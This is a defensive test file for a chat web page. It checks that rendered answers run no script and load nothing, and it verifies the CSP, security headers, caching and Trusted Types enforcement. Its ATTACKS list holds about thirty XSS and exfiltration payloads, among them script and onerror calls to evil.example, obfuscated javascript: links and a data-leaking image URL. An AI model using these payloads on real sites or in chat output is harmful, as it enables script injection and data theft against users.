/** What an answer may never do, what the page may never keep, and the headers that stand behind both. */
import { describe, expect, it } from 'vitest';
import { ask, words } from '../support/page/site.ts';
import { pageWorld } from '../support/page/world.ts';

const world = pageWorld();

/** Ways in which answers have run scripts or sent data away in other chat pages. */
const ATTACKS = [
  '<script>fetch("https://evil.example/a")</script>',
  '<img src=x onerror="fetch(`https://evil.example/b`)">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<style>@import url(https://evil.example/c.css);</style>',
  '<link rel=stylesheet href=https://evil.example/d.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><input name=q><button>go</button></form>',
  '<base href=https://evil.example/>',
  '![x](https://evil.example/pixel.png?data=secret)',
  '![x][ref]\n\n[ref]: https://evil.example/ref.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '<javascript:alert(1)>',
  '[a](https://evil.example/" onmouseover="alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```" onmouseover="alert(1)\ncode\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$$\\includegraphics{https://evil.example/m.png}$$',
  '| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |',
  '<details open ontoggle=alert(1)>',
  '<video src=https://evil.example/v.mp4 autoplay></video>',
  '\u202e[gnp.exe](https://evil.example)',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)>',
  '[__proto__]: https://evil.example\n\n[__proto__]',
];

describe('an answer', () => {
  it('runs nothing, loads nothing and breaks no policy, whatever it says', { timeout: 40_000 }, async () => {
    world.site.answer(words(...ATTACKS.map((attack) => `${attack}\n\n`), 'The end.'));
    await using visitor = await world.visit();
    const { page } = visitor;
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await ask(page, ATTACKS.join('\n'));
    await expect.poll(() => page.locator('.answer').textContent()).toContain('The end.');
    await page.locator('.figures').waitFor();
    const dangerous = await page
      .locator('.answer .md, .said')
      .evaluateAll((parts) =>
        parts
          .flatMap((part) =>
            [...part.querySelectorAll('*')].filter(
              (element) =>
                /^(?:script|img|iframe|style|link|meta|form|base|video|object|embed|animate|details)$/i.test(
                  element.localName,
                ) ||
                [...element.attributes].some(({ name }) => name.startsWith('on')) ||
                (element instanceof HTMLAnchorElement && !/^(?:https?|mailto|tel):$/.test(element.protocol)),
            ),
          )
          .map((element) => element.outerHTML),
      );
    expect(dangerous).toEqual([]);
    for (const link of await page.locator('.md a').all()) {
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
    await page.reload();
    await expect.poll(() => page.locator('.answer').textContent()).toContain('The end.');
    expect(dialogs).toEqual([]);
    visitor.expectPeace();
  });
});

describe('the page', () => {
  it('is served with the policy that its rules ask for, and every other security header', async () => {
    for (const path of ['/', '/login', '/app.js', '/style.css', '/usage', '/usage.js', '/usage.css']) {
      const response = await fetch(new URL(path, world.site.url));
      expect(response.status, path).toBe(200);
      const { headers } = response;
      const policy = headers.get('content-security-policy') ?? '';
      expect(policy.split('; ')).toEqual([
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data: blob:",
        "connect-src 'self'",
        "font-src 'self'",
        "manifest-src 'self'",
        "worker-src 'self'",
        "base-uri 'none'",
        "form-action 'self'",
        "frame-ancestors 'none'",
        "require-trusted-types-for 'script'",
        'trusted-types nexcode-sw',
      ]);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('x-frame-options')).toBe('DENY');
      expect(headers.get('referrer-policy')).toBe('no-referrer');
      expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
      expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
      expect(headers.get('permissions-policy')).toContain('camera=()');
    }
  });

  it('lets the browser keep only files that are named by their content', async () => {
    const script = await (await fetch(new URL('/app.js', world.site.url))).text();
    const chunk = /\/chunk\/[\w-]+\.js/.exec(script)?.[0] ?? '';
    expect((await fetch(new URL(chunk, world.site.url))).headers.get('cache-control')).toContain('immutable');
    expect((await fetch(new URL('/app.js', world.site.url))).headers.get('cache-control')).toContain(
      'must-revalidate',
    );
  });

  it('refuses scripts by string and every Trusted Types policy but its one', async () => {
    await using visitor = await world.visit();
    const refused = await visitor.page.evaluate(() => {
      const attempt = (act: () => void) => {
        try {
          act();
          return false;
        } catch {
          return true;
        }
      };
      const factory = (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes;
      return [
        attempt(() => {
          document.createElement('div').innerHTML = '<b>x</b>';
        }),
        attempt(() => {
          document.createElement('script').src = '/sw.js';
        }),
        attempt(() => factory.createPolicy('another', {})),
      ];
    });
    expect(refused).toEqual([true, true, true]);
  });
});
